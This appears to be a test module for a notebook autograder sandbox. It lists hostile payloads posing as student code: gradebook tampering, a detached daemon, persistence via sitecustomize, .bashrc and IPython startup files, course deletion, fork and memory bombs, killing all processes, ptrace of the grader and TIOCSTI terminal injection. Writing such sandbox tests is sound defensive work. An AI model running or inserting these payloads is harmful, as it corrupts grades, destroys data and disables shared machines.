"""What code can do to the machine that runs it: files of others, processes, memory, disk."""

from __future__ import annotations

from functools import partial

from tests.attacks.attack import by_cell, written
from tests.attacks.reads import PLACES

ATTACKS = written(
    """
=== looks: gradebook-by-sqlite
# Gives itself points in the gradebook, and others none.
import sqlite3
for place in places():
    for path in glob.glob(place + "/gradebook.db"):
        with sqlite3.connect(path, timeout=1) as db:
            db.execute("update grade set manual_score = 3")
            db.execute("update grade_cells set max_score = 100")
=== cell: gradebook-by-nbgrader
# The same through nbgrader's own interface, for every student that it finds.
import contextlib

with contextlib.suppress(BaseException):
    from nbgrader.api import Gradebook
    with Gradebook("sqlite:///@COURSE@/gradebook.db") as gradebook:
        for submission in gradebook.assignment_submissions("07_toy"):
            for grade in submission.notebooks[0].grades:
                grade.manual_score = 0
        gradebook.db.commit()
=== cell: daemon
# Leaves a daemon, forked twice and in a session of its own, that changes the gradebook a little later.
import os, sqlite3, time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.closerange(0, 100)
        until = time.time() + 20
        while time.time() < until:
            time.sleep(0.5)
            try:
                with sqlite3.connect("@COURSE@/gradebook.db", timeout=1) as db:
                    db.execute("update grade set manual_score = 3")
            except sqlite3.Error:
                pass
        time.sleep(100)
    os._exit(0)
os.wait()
=== cell: subprocess-left
# Leaves a program that sleeps for an hour, in a session of its own.
import subprocess, sys
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(3600)", "planted"], start_new_session=True)
=== cell: ipython-startup
# Plants a start-up file of IPython's for the next student's kernel, which spoils the next student's answer.
import os
folder = os.path.expanduser("~/.ipython/profile_default/startup")
os.makedirs(folder, exist_ok=True)
with open(folder + "/00-planted.py", "w") as file:
    file.write("get_ipython().input_transformers_post.append("
               "lambda lines: [line.replace('x * x', '0') for line in lines])\\n")
=== cell: site-packages
# Plants `sitecustomize.py`, `usercustomize.py` and a `.pth` file where every Python here will read them.
import os, site, sys, sysconfig

folders = [sysconfig.get_path("purelib"), site.getusersitepackages(), *sys.path]
for folder in folders:
    for name, text in {
        "zz-planted.pth": "import builtins; builtins.planted = True",
        "sitecustomize.py": "planted = True",
        "usercustomize.py": "planted = True",
    }.items():
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, name), "x") as file:
                file.write(text + "\\n")
        except OSError:
            pass
=== cell: home
# Plants a kernel of its own, settings of Jupyter and lines in `.bashrc` in the instructor's home.
import json, os
home = os.path.expanduser("~")
line = "import sys; sys.argv[:] = ['']; raise SystemExit"
kernel = {"argv": ["python3", "-c", line], "display_name": "Python 3", "language": "python"}
for name, text in {
    ".local/share/jupyter/kernels/python3/kernel.json": json.dumps(kernel),
    ".jupyter/jupyter_config.py": "planted = True",
    ".jupyter/nbgrader_config.py": "planted = True",
    ".bashrc": "echo planted",
}.items():
    os.makedirs(os.path.dirname(os.path.join(home, name)), exist_ok=True)
    with open(os.path.join(home, name), "a") as file:
        file.write(text + "\\n")
=== looks: course-files
# Writes into the course: settings, solution, the hidden tests, another's submission.
for place in places():
    for path in [place + "/nbgrader_config.py", *glob.glob(place + "/solutions/*/*.ipynb"),
                 *glob.glob(place + "/submitted/*/*/*.ipynb")]:
        try:
            with open(path, "a") as file:
                file.write(" ")
        except OSError:
            pass
=== cell: removes-everything
# Deletes the course.
import os, shutil

for name in os.listdir("@COURSE@") if os.path.isdir("@COURSE@") else ():
    shutil.rmtree("@COURSE@/" + name, ignore_errors=True)
    if os.path.isfile("@COURSE@/" + name):
        os.unlink("@COURSE@/" + name)
=== cell: shared-memory
# Leaves blocks of shared memory behind, by `multiprocessing` and as files.
from multiprocessing import resource_tracker, shared_memory
block = shared_memory.SharedMemory("planted-block", create=True, size=1 << 20)
resource_tracker.unregister(block._name, "shared_memory")
open("/dev/shm/planted-file", "w").write("planted")
=== answer: fork-bomb
# Forks forever.
import os

def square(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
=== answer: memory-bomb
# Takes all the memory there is, and uses it.
def square(x):
    taken = []
    while True:
        taken.append(bytearray(b"x" * (64 << 20)))
=== answer: huge-file
# Fills the disk with one file.
import os, tempfile

def square(x):
    for folder in (".", tempfile.gettempdir(), "/dev/shm", "/tmp"):
        try:
            with open(os.path.join(folder, "planted-huge"), "wb") as file:
                while True:
                    file.write(bytes(16 << 20))
        except OSError:
            pass
    return 0
=== answer: many-files
# Fills the disk with small files, until no more can be made.
import os

def square(x):
    number = 0
    while True:
        number += 1
        with open(f"planted-{number}", "wb") as file:
            file.write(bytes(100_000))
=== answer: endless-output
# Prints forever, to all the streams there are.
import os, sys

def square(x):
    while True:
        print("x" * 100_000)
        print("y" * 100_000, file=sys.stderr)
        os.write(1, b"z" * 100_000)
        os.write(2, b"z" * 100_000)
=== answer: many-threads
# Starts threads until no more can be had, and leaves them running.
import threading, time

def square(x):
    while True:
        threading.Thread(target=time.sleep, args=(1000,)).start()
=== answer: kills-everybody
# Kills every process that it may, and first its parent, the grader.
import os

def square(x):
    os.kill(os.getppid(), 9)
    os.kill(-1, 9)
    return 0
=== answer: traces-its-parent
# Attaches to its parent as a debugger, which stops the parent, and keeps it stopped.
import ctypes, os, time

def square(x):
    ctypes.CDLL(None).ptrace(16, os.getppid(), 0, 0)
    time.sleep(1000)
=== answer: types-into-the-terminal
# Types a command into every terminal that it can open, with TIOCSTI.
import fcntl, glob, os

def square(x):
    for path in ["/dev/tty", "/dev/console", "/proc/self/fd/0", *glob.glob("/dev/pts/*")]:
        try:
            fd = os.open(path, os.O_RDWR | os.O_NONBLOCK)
            for letter in b"touch @HOME@/typed\\n":
                fcntl.ioctl(fd, 0x5412, bytes([letter]))
        except OSError:
            pass
    return 0
""",
    looks=partial(by_cell, head=PLACES),
)
